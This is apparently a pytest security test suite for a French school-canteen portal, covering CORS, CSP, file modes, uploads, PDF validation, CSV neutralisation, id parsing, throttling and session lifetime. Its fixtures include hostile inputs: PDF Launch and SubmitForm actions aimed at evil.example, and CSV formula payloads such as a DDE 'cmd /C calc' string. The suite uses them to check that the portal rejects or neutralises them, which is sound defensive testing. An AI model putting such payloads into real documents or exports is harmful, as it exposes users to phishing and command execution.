"""Issue 19, security at the edges: one test (or more) per class of the probe (docs/security.md)."""

from __future__ import annotations

import base64
import hashlib
import importlib
import io
import os
import stat
from datetime import date, timedelta
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
from sqlmodel import select
from starlette.applications import Starlette
from starlette.responses import JSONResponse, PlainTextResponse, Response
from starlette.routing import Route, WebSocketRoute
from starlette.testclient import TestClient
from starlette.websockets import WebSocket, WebSocketDisconnect

from cantine_portal.api import admin_files, csp, edge, files
from cantine_portal.api.middleware import SlugCache, portal_middleware
from cantine_portal.api.routes import build_api
from cantine_portal.config import Settings, allowed_origins, origins_from_env
from cantine_portal.infra import files as private_files
from cantine_portal.infra import storage
from cantine_portal.infra.csv_export import csv_bytes, neutralise
from cantine_portal.infra.db import Database
from cantine_portal.infra.http import session_cookie_name, staff_cookie_name
from cantine_portal.infra.mail import Mail, Mailer
from cantine_portal.infra.pdf.reglement import render_reglement
from cantine_portal.infra.pdf.validation import MSG_ACTIVE_CONTENT, PdfRejected, validate_pdf
from cantine_portal.models import Account, Structure
from cantine_portal.services.accounts import throttle
from cantine_portal.services.accounts.sessions import open_session, resolve_session, touch_session
from cantine_portal.services.accounts.staff import create_staff
from cantine_portal.services.backoffice.attendance import Attendance, AttendanceRow, attendance_csv
from cantine_portal.services.backoffice.payments import PaymentRow, PaymentsReport, payments_csv
from cantine_portal.services.demo import MARTIN_EMAIL
from cantine_portal.services.shared.validation import MAX_ID, parse_id
from tests.conftest import settings_for

EVIL = "https://evil.example"
OWN = "http://portail.test"
HUGE_ID = "99999999999999999999999"


def _settings(tmp_path: Path, **env: str) -> Settings:
    return settings_for(tmp_path / "var", CANTINE_BASE_URL=OWN, **env)


def _structure(session, slug: str) -> Structure:
    return session.exec(select(Structure).where(Structure.slug == slug)).one()


# --- 1, 2: origins -----------------------------------------------------------------------------


class Inner:
    """A stand-in for Reflex: records whether a request reached it, answers with generous CORS."""

    def __init__(self) -> None:
        self.reached: list[str] = []

    def app(self) -> Starlette:
        async def socket(websocket: WebSocket) -> None:
            self.reached.append("socket")  # Reflex would load the tab's state here
            await websocket.accept()
            await websocket.send_text("famille Martin")
            await websocket.close()

        async def page(request) -> Response:
            self.reached.append(request.method)
            return PlainTextResponse(
                "<html>Martin</html>",
                media_type="text/html",
                headers={
                    "access-control-allow-origin": request.headers.get("origin", "*"),
                    "access-control-allow-credentials": "true",
                },
            )

        async def data(request) -> Response:
            self.reached.append(request.method)
            return JSONResponse({"ok": True})

        return Starlette(
            routes=[
                WebSocketRoute("/_event/", socket),
                Route("/demo", page),
                Route("/api/demo/connexion", data, methods=["GET", "POST", "OPTIONS"]),
                Route("/api/demo/recus/1", data),
                Route("/doc.pdf", lambda r: Response(b"%PDF-", media_type="application/pdf")),
            ]
        )


@pytest.fixture
def edge_client(tmp_path):
    inner = Inner()
    app = portal_middleware(
        inner.app(),
        slug_cache=SlugCache(lambda: {"demo"}),
        max_connections=0,
        settings=_settings(tmp_path),
        script_hashes=("'sha256-abc='",),
    )
    return TestClient(app, base_url=OWN), inner


def test_allow_list_is_the_base_url_plus_the_configured_extras():
    assert origins_from_env(
        {
            "CANTINE_BASE_URL": "https://Portail.Ville.fr/",
            "CANTINE_EXTRA_ORIGINS": "https://www.ville.fr, http://intranet:8080",
        }
    ) == ("https://portail.ville.fr", "https://www.ville.fr", "http://intranet:8080")
    # A local portal answers to localhost and to its numeric names (the browser tests use both).
    assert allowed_origins("http://localhost:3000") == (
        "http://localhost:3000",
        "http://127.0.0.1:3000",
        "http://[::1]:3000",
    )


def test_reflex_cors_list_is_the_allow_list_never_a_wildcard(monkeypatch):
    monkeypatch.setenv("CANTINE_BASE_URL", "https://portail.ville.fr")
    monkeypatch.setenv("CANTINE_EXTRA_ORIGINS", "https://www.ville.fr")
    import rxconfig

    config = importlib.reload(rxconfig).config
    assert list(config.cors_allowed_origins) == ["https://portail.ville.fr", "https://www.ville.fr"]
    monkeypatch.undo()
    importlib.reload(rxconfig)


def test_cross_site_websocket_is_refused_before_any_state_is_loaded(edge_client):
    client, inner = edge_client
    with pytest.raises(WebSocketDisconnect) as refused:
        with client.websocket_connect("/_event/", headers={"origin": EVIL, "cookie": "cp_session_demo=x"}):
            pass
    assert refused.value.code == 1008 and inner.reached == []
    with client.websocket_connect("/_event/", headers={"origin": OWN}) as socket:
        assert socket.receive_text() == "famille Martin"
    assert inner.reached == ["socket"]


def test_foreign_origin_gets_no_credentialed_cors_and_no_preflight(edge_client):
    client, inner = edge_client
    answer = client.get("/demo", headers={"origin": EVIL})
    assert answer.status_code == 200
    assert not [h for h in answer.headers if h.lower().startswith("access-control-")]
    own = client.get("/demo", headers={"origin": OWN})
    assert own.headers["access-control-allow-origin"] == OWN
    preflight = client.options("/api/demo/connexion", headers={"origin": EVIL, "access-control-request-method": "POST"})
    assert preflight.status_code == 403 and "access-control-allow-origin" not in preflight.headers
    post = client.post("/api/demo/connexion", headers={"origin": EVIL})
    assert post.status_code == 403
    assert inner.reached == ["GET", "GET"]  # neither the preflight nor the POST reached the app


# --- 4: Content-Security-Policy ----------------------------------------------------------------


def test_every_answer_carries_a_content_security_policy(edge_client):
    client, _inner = edge_client
    page = client.get("/demo").headers["content-security-policy"]
    for directive in (
        "default-src 'self'",
        "script-src 'self' 'sha256-abc='",
        "object-src 'none'",
        "base-uri 'self'",
        "frame-ancestors 'none'",
        "form-action 'self'",
        "connect-src 'self' http://portail.test ws://portail.test",
    ):
        assert directive in page
    assert "unsafe-eval" not in page and "script-src 'self' 'unsafe-inline'" not in page
    assert client.get("/api/demo/recus/1").headers["content-security-policy"] == csp.DOCUMENT_POLICY
    assert client.get("/doc.pdf").headers["content-security-policy"] == csp.PDF_POLICY
    refused = client.post("/api/demo/connexion", headers={"origin": EVIL})
    assert refused.headers["content-security-policy"] == csp.DOCUMENT_POLICY


def test_inline_scripts_of_the_build_are_allowed_by_hash_only(tmp_path, settings):
    (tmp_path / "index.html").write_text(
        '<script src="/assets/a.js"></script><script>window.x = 1;</script>'
        '<script type="module" async="">import "/m.js";</script>'
    )
    hashes = csp.inline_script_hashes(tmp_path)
    expected = {
        "'sha256-" + base64.b64encode(hashlib.sha256(body).digest()).decode() + "'"
        for body in (b"window.x = 1;", b'import "/m.js";')
    }
    assert set(hashes) == expected
    stripe = settings.with_overrides(stripe_secret_key="sk", stripe_webhook_secret="wh")
    assert "form-action 'self' https://checkout.stripe.com" in csp.page_policy(stripe, hashes)
    assert "checkout.stripe.com" not in csp.page_policy(settings, hashes)


# --- 5: file modes -----------------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_database_mail_storage_backup_and_secret_are_the_portal_users_only(tmp_path, now):
    old = os.umask(0o022)  # a usual umask: without care, everything would be 0644 / 0755
    try:
        var = tmp_path / "var"
        var.mkdir()
        legacy = var / "cantine.db"
        legacy.write_bytes(b"")
        legacy.chmod(0o644)  # an older installation's database
        settings = Settings.from_env({"CANTINE_VAR_DIR": str(var)})  # no CANTINE_SECRET_KEY: a file
        private_files.secure_var_tree(settings)
        database = Database(settings.database_url)
        SQLModelMeta = importlib.import_module("sqlmodel").SQLModel
        SQLModelMeta.metadata.create_all(database.engine)
        with database.write_session() as session:
            session.add(Structure(slug="demo", name="Démo", created_at=now, updated_at=now))
        with database.session() as session:
            session.exec(select(Structure)).all()
        Mailer(settings).send(Mail(to="a@b.fr", subject="Lien", text="https://x/lien", html="<p>lien</p>"), now)
        stored = storage.save_bytes(settings, "documents", b"%PDF-")
    finally:
        os.umask(old)
    for path in (
        legacy,
        Path(f"{legacy}-wal"),
        Path(f"{legacy}-shm"),
        Path(f"{legacy}-writer.lock"),
        var / "secret_key",
        *settings.mail_dir.glob("*.eml"),
        storage.resolve(settings, stored),
    ):
        assert path.exists() and _mode(path) == 0o600, path
    for folder in (var, settings.mail_dir, settings.storage_dir, settings.storage_dir / "documents", var / "backup"):
        assert _mode(folder) == 0o700, folder
    database.dispose()


# --- 6: uploads and PDFs -----------------------------------------------------------------------


def _upload_call(settings: Settings, headers: list[tuple[bytes, bytes]], chunks: list[bytes], session: bool):
    """Run guard_upload on a fake app; returns (status sent, body the app read or None, chunks read)."""
    sent: list[dict] = []
    read = {"count": 0}
    seen: dict[str, bytes] = {}

    async def receive():
        read["count"] += 1
        index = read["count"] - 1
        return {"type": "http.request", "body": chunks[index], "more_body": index < len(chunks) - 1}

    async def send(message):
        sent.append(message)

    async def app(scope, receive_, send_):
        body = b""
        while True:
            message = await receive_()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        seen["body"] = body
        await send_({"type": "http.response.start", "status": 200, "headers": []})
        await send_({"type": "http.response.body", "body": b""})

    scope = {"type": "http", "method": "POST", "path": "/_upload", "headers": headers}
    import asyncio

    asyncio.run(edge.guard_upload(app, scope, receive, send, settings, has_session=lambda *_: session))
    return sent[0]["status"], seen.get("body"), read["count"]


def test_upload_without_session_is_refused_before_its_body_is_read(tmp_path):
    settings = _settings(tmp_path)
    twelve_mib = [b"x" * (1024 * 1024)] * 12
    assert _upload_call(settings, [(b"content-length", str(12 * 1024 * 1024).encode())], twelve_mib, session=False) == (
        413,
        None,
        0,
    )
    assert _upload_call(settings, [(b"content-length", b"10")], [b"x" * 10], session=False) == (403, None, 0)


def test_upload_past_the_cap_is_refused_even_when_chunked(tmp_path):
    settings = _settings(tmp_path)
    chunks = [b"x" * (1024 * 1024)] * 12  # no Content-Length: counted as it streams
    status, body, read = _upload_call(settings, [], chunks, session=True)
    assert (status, body) == (413, None) and read < len(chunks)
    status, body, _read = _upload_call(settings, [(b"content-length", b"5")], [b"%PDF-"], session=True)
    assert (status, body) == (200, b"%PDF-")


def test_upload_needs_a_live_session_of_its_own_kind(database, demo_session, now, settings, monkeypatch):
    monkeypatch.setattr("cantine_portal.infra.db._active", database)
    monkeypatch.setattr("cantine_portal.config._active", settings)
    monkeypatch.setattr(edge.clock, "now", lambda: now)
    with database.write_session() as s:
        token = open_session(s, now, s.exec(select(Account).where(Account.email == MARTIN_EMAIL)).one())
    scope = {"headers": [(b"cookie", f"{session_cookie_name('demo')}={token}".encode())]}
    assert edge.any_live_session(settings, edge.session_cookies(scope))
    forged = {"headers": [(b"cookie", f"{staff_cookie_name('demo')}={token}; cp_session_demo=nope".encode())]}
    assert not edge.any_live_session(settings, edge.session_cookies(forged))
    assert not edge.any_live_session(settings, edge.session_cookies({"headers": []}))


def _pdf_with(setup) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    setup(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **extra) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in extra.items():
        action[NameObject("/" + key)] = TextStringObject(value)
    return action


def _open_action(kind: str, **extra):
    return lambda w: w._root_object.__setitem__(NameObject("/OpenAction"), _action(kind, **extra))


def _link_annotation(writer: PdfWriter) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
            NameObject("/A"): _action("/URI", URI="https://evil.example/login"),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _outline_goto_remote(writer: PdfWriter) -> None:
    item = writer.add_outline_item("Voir", 0)
    item_object = item.get_object()
    item_object[NameObject("/A")] = _action("/GoToR", F="\\\\evil\\share\\x.pdf")
    item_object.pop(NameObject("/Dest"), None)


@pytest.mark.parametrize(
    "setup",
    [
        _open_action("/URI", URI="https://evil.example"),
        _open_action("/SubmitForm", F="https://evil.example/collect"),
        _open_action("/ImportData", F="data.fdf"),
        _open_action("/Launch", F="calc.exe"),
        _link_annotation,
        _outline_goto_remote,
    ],
    ids=["openaction-uri", "openaction-submitform", "importdata", "launch", "link-annotation", "outline-gotor"],
)
def test_pdf_actions_that_open_submit_launch_or_import_are_refused(setup):
    with pytest.raises(PdfRejected) as refused:
        validate_pdf(_pdf_with(setup), 5 * 1024 * 1024)
    assert refused.value.reason == "active_content"
    assert "PDF « simple », sans lien ni action" in refused.value.message == MSG_ACTIVE_CONTENT


def test_pdf_action_hidden_behind_a_name_escape_is_still_refused():
    data = _pdf_with(_open_action("/URI", URI="https://evil.example")).replace(b"/URI", b"/#55RI")
    with pytest.raises(PdfRejected):
        validate_pdf(data, 5 * 1024 * 1024)


def test_a_plain_pdf_is_still_accepted():
    assert validate_pdf(render_reglement("Ville de Démo"), 5 * 1024 * 1024) >= 1


# --- 7: CSV injection --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed, written",
    [
        ('=HYPERLINK("https://evil.example";"x")', '\'=HYPERLINK("https://evil.example";"x")'),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("+33 6 12", "'+33 6 12"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1+1", "'  =1+1"),  # leading blanks are skipped by spreadsheets
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        ("\uff1dHYPERLINK(1)", "'\uff1dHYPERLINK(1)"),  # a full-width equals sign
        ("Sans porc", "Sans porc"),
        ("-12,50", "-12,50"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(typed, written):
    assert neutralise(typed) == written


def test_effectifs_and_paiements_csv_carry_no_formula(now):
    row = AttendanceRow('=HYPERLINK("https://evil.example")', "@SUM(1+1)", "-2+3", "CP", "=1+1", False, "")
    data = attendance_csv(Attendance(date(2026, 11, 30), 1, "Cantine", [row], [], [], 0)).decode("utf-8-sig")
    cells = data.splitlines()[1].split(";")
    assert all(not cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells), cells
    payment = PaymentRow(
        1,
        "30/11/2026",
        "=cmd|' /C calc'!A0",
        "P-1",
        "simule",
        "",
        "paid",
        "Payé",
        385,
        "3,85 €",
        0,
        "0,00 €",
        "2026-000001",
    )
    text = payments_csv(PaymentsReport([payment], [], [])).decode("utf-8-sig")
    assert ";'=cmd|' /C calc'!A0;" in text.replace('"', "") and ";3,85;" in text
    assert csv_bytes(["a"], [["=x"]]).decode("utf-8-sig") == "a\r\n'=x\r\n"


# --- 8: impossible ids -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw, expected",
    [
        ("1", 1),
        (str(MAX_ID), MAX_ID),
        (HUGE_ID, None),
        (str(MAX_ID + 1), None),
        ("0", None),
        ("-1", None),
        ("+1", None),
        (" 1", None),
        ("1_0", None),
        ("١", None),
        ("", None),
        (None, None),
        (True, None),
        (7, 7),
    ],
)
def test_parse_id_accepts_only_database_ids(raw, expected):
    assert parse_id(raw) == expected


@pytest.fixture
def api(database, demo_session, settings, now, monkeypatch):
    monkeypatch.setattr("cantine_portal.infra.db._active", database)
    monkeypatch.setattr("cantine_portal.config._active", settings)
    for module in (files, admin_files):
        monkeypatch.setattr(module.clock, "now", lambda: now)
    with database.write_session() as s:
        staff = create_staff(s, now, "demo", "agent.controle@demo.fr", "Pivoine-Lanterne-Brume-47!")
        parent = s.exec(select(Account).where(Account.email == MARTIN_EMAIL)).one()
        cookies = {
            session_cookie_name("demo"): open_session(s, now, parent),
            staff_cookie_name("demo"): open_session(s, now, staff),
        }
    client = TestClient(build_api(), raise_server_exceptions=False)
    client.cookies.update(cookies)
    return client


@pytest.mark.parametrize(
    "path",
    [
        f"/api/demo/recus/{HUGE_ID}",
        f"/api/demo/documents/{HUGE_ID}",
        f"/api/demo/admin/documents/{HUGE_ID}",
        f"/api/demo/admin/messages/{HUGE_ID}/piece-jointe",
        f"/api/demo/admin/effectifs.csv?jour=2026-11-30&prestation={HUGE_ID}",
        f"/api/demo/admin/effectifs.pdf?jour=2026-11-30&prestation={HUGE_ID}",
        "/api/demo/recus/0",
        "/api/demo/admin/documents/-5",
    ],
    ids=["receipt", "document", "staff-document", "attachment", "effectifs-csv", "effectifs-pdf", "zero", "negative"],
)
def test_impossible_ids_get_the_same_empty_404(api, path):
    answer = api.get(path)
    assert (answer.status_code, answer.content) == (404, b"")


# --- 9: throttling spans communes --------------------------------------------------------------


def test_per_address_login_limit_spans_every_commune(demo_session, now):
    demo, other = _structure(demo_session, "demo"), _structure(demo_session, "autreville")
    for minute in range(throttle.IP_FAILURES_PER_HOUR):
        throttle.record(
            demo_session,
            other.id,
            throttle.login_scopes(f"x{minute}@a.fr", "203.0.113.9")[1],
            now - timedelta(minutes=30) + timedelta(seconds=minute),
        )
    demo_session.commit()
    assert not throttle.check_login(demo_session, demo.id, MARTIN_EMAIL, "203.0.113.9", now).allowed
    assert throttle.check_login(demo_session, demo.id, MARTIN_EMAIL, "198.51.100.7", now).allowed


def test_per_address_link_limit_spans_every_commune(demo_session, now):
    demo, other = _structure(demo_session, "demo"), _structure(demo_session, "autreville")
    for n in range(throttle.LINKS_PER_IP_PER_HOUR):
        throttle.record(demo_session, other.id, "link:ip:203.0.113.9", now - timedelta(minutes=n))
    demo_session.commit()
    assert not throttle.check_link_request(demo_session, demo.id, MARTIN_EMAIL, "203.0.113.9", now).allowed
    assert throttle.check_link_request(demo_session, demo.id, MARTIN_EMAIL, "198.51.100.7", now).allowed


# --- 10: maximum session lifetime --------------------------------------------------------------


def test_a_session_in_constant_use_still_ends_after_its_maximum_lifetime(database, demo_session, now):
    demo = _structure(demo_session, "demo")
    with database.write_session() as s:
        account = s.exec(select(Account).where(Account.email == MARTIN_EMAIL)).one()
        token = open_session(s, now, account)
    idle = timedelta(minutes=30)
    with database.write_session() as s:
        for minutes in range(20, 12 * 60, 20):  # used every 20 minutes: never idle
            info = resolve_session(s, now + timedelta(minutes=minutes), demo.id, token, idle)
            assert info is not None, minutes
            touch_session(s, info.login_id, now + timedelta(minutes=minutes))
        assert resolve_session(s, now + timedelta(hours=12), demo.id, token, idle) is None
        assert resolve_session(s, now + timedelta(hours=2), demo.id, token, idle, lifetime=timedelta(hours=2)) is None


def test_session_max_hours_is_a_setting(tmp_path):
    assert _settings(tmp_path).session_max_hours == 12
    assert _settings(tmp_path, CANTINE_SESSION_MAX_HOURS="4").session_max_hours == 4


def test_script_hashes_follow_a_rebuild(tmp_path):
    page = tmp_path / "index.html"
    page.write_text("<script>one()</script>")
    hashes = csp.BuildHashes(lambda: tmp_path)
    first = hashes()
    page.write_text("<script>two()</script>")
    os.utime(page, ns=(1, 1))
    hashes._checked = float("-inf")  # skip the once-a-second pause
    assert hashes() != first and hashes() == (csp.script_hash(b"two()"),)


def test_reflex_public_upload_folder_is_never_served(tmp_path):
    """Receipts, attachments, attestations and logos live in private storage; Reflex's public
    /_upload/… folder is answered 404 whatever it might hold (here an app that would serve it)."""
    public = Starlette(
        routes=[Route("/_upload/{name:path}", lambda r: Response(b"%PDF-", media_type="application/pdf"))]
    )
    app = portal_middleware(
        public,
        slug_cache=SlugCache(lambda: {"demo"}),
        max_connections=0,
        settings=_settings(tmp_path),
        script_hashes=("'sha256-abc='",),
    )
    client = TestClient(app, base_url=OWN)
    for path in ("/_upload/recu.pdf", "/_upload/sub/attestation.png"):
        assert client.get(path).status_code == 404
